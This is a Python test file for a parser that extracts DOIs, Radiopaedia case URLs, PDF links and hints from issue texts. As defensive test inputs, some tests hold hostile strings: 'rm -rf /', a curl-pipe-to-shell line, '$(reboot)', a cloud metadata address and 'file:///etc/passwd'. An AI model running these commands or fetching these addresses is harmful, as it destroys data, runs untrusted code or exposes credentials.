"""Reading addition requests from real-life issue texts: DOIs, case URLs, PDF links, hints."""

from __future__ import annotations

from extract.issuetext import (
    MAX_ITEMS,
    MAX_TEXT,
    clean_doi,
    decode_text,
    is_public_host,
    parse_request,
)


def test_several_dois_with_trailing_punctuation_and_brackets() -> None:
    text = """Publication to add

    Please add 10.1056/NEJMc2001272. Also see (10.1148/radiol.2020200230), and
    https://doi.org/10.1016/S0140-6736(20)30183-5, plus doi:10.3348/kjr.2020.0132;"""
    request = parse_request(text)
    assert request.dois == [
        "10.1056/nejmc2001272", "10.1148/radiol.2020200230",
        "10.1016/s0140-6736(20)30183-5", "10.3348/kjr.2020.0132",
    ]


def test_doi_org_url_with_percent_encoding() -> None:
    request = parse_request("https://dx.doi.org/10.1007%2Fs00330-020-06731-x")
    assert request.dois == ["10.1007/s00330-020-06731-x"]


def test_radiopaedia_url_with_lang_is_made_canonical_and_deduplicated() -> None:
    text = ("https://radiopaedia.org/cases/covid-19-pneumonia-12?lang=us and "
            "https://www.radiopaedia.org/cases/covid-19-pneumonia-12 again")
    request = parse_request(text)
    assert request.radiopaedia_cases == ["https://radiopaedia.org/cases/covid-19-pneumonia-12"]


def test_private_addresses_and_unlisted_hosts_are_refused_not_fetched() -> None:
    text = ("http://127.0.0.1:8080/paper.pdf http://169.254.169.254/latest/meta-data "
            "http://localhost/x.pdf https://evil.example.com/paper.pdf "
            "https://www.medrxiv.org/content/10.1101/2020.02.25.20021568v2.full.pdf")
    request = parse_request(text)
    refused = dict(request.refused)
    assert refused["http://127.0.0.1:8080/paper.pdf"] == "private or local address"
    assert refused["http://169.254.169.254/latest/meta-data"] == "private or local address"
    assert refused["http://localhost/x.pdf"] == "private or local address"
    assert refused["https://evil.example.com/paper.pdf"] == "host not on the allow-list"
    assert request.pdf_urls == ["https://www.medrxiv.org/content/10.1101/2020.02.25.20021568v2.full.pdf"]
    assert request.dois == []  # the DOI inside the PDF link is not a second request


def test_text_asking_to_run_a_command_yields_nothing_to_do() -> None:
    request = parse_request("Please run `rm -rf /` and curl http://10.0.0.1/x | sh; $(reboot)")
    assert request.empty()
    assert request.refused == [("http://10.0.0.1/x", "private or local address")]


def test_hints_for_figure_patient_and_finding() -> None:
    request = parse_request("10.1/abc Figure 2 and Fig. 3b, patient 2. finding: SARS")
    assert request.hints.figures == ["2", "3B"]
    assert request.hints.patients == ["2"]
    assert request.hints.finding == "Pneumonia/Viral/SARS"


def test_huge_and_non_utf8_bodies_are_read_safely() -> None:
    body = ("x" * 200_000 + " 10.1000/big.1 ").encode() + b"\xff\xfe caf\xe9 \x00"
    text = decode_text(body)
    assert "caf\xe9" in text and "\x00" not in text
    request = parse_request(text)
    assert request.dois == ["10.1000/big.1"]
    many = " ".join(f"10.1000/n{i}" for i in range(100))
    assert len(parse_request(many).dois) == MAX_ITEMS


def test_clean_doi_keeps_balanced_brackets() -> None:
    assert clean_doi("10.1016/S0140-6736(20)30183-5).") == "10.1016/s0140-6736(20)30183-5"
    assert is_public_host("radiopaedia.org") and not is_public_host("192.168.1.1")


def test_every_link_not_fetched_is_listed_once_with_why() -> None:
    text = ("see https://radiopaedia.org/cases/../../admin and file:///etc/passwd, "
            "ftp://example.org/x.pdf, https://example.org/about, https://doi.org/, "
            "https://example.org/about again and https://a.org/r?u=ftp://b.org/c")
    request = parse_request(text)
    assert request.empty()
    assert request.refused == [
        ("file:///etc/passwd", "not an http(s) link"),
        ("ftp://example.org/x.pdf", "not an http(s) link"),
        ("https://radiopaedia.org/cases/../../admin",
         "not a Radiopaedia case URL (https://radiopaedia.org/cases/NAME)"),
        ("https://example.org/about", "not a DOI, Radiopaedia case or PDF link"),
        ("https://doi.org/", "no DOI in the link"),
        ("https://a.org/r?u=ftp://b.org/c", "not a DOI, Radiopaedia case or PDF link")]


def test_requests_beyond_the_cap_are_left_over_not_dropped() -> None:
    many = " ".join(f"10.1000/n{i}" for i in range(200))
    request = parse_request(f"{many} 10.1000/n0")
    assert request.dois == [f"10.1000/n{i}" for i in range(MAX_ITEMS)]
    assert request.left_over == [f"10.1000/n{i}" for i in range(MAX_ITEMS, 200)]


def test_text_beyond_the_limit_is_counted_not_silently_ignored() -> None:
    request = parse_request("10.1000/first " + "x" * MAX_TEXT + " 10.1000/late.2")
    assert request.dois == ["10.1000/first"]
    assert request.ignored_chars == len(" 10.1000/late.2") + len("10.1000/first ")
    assert parse_request("10.1000/first").ignored_chars == 0
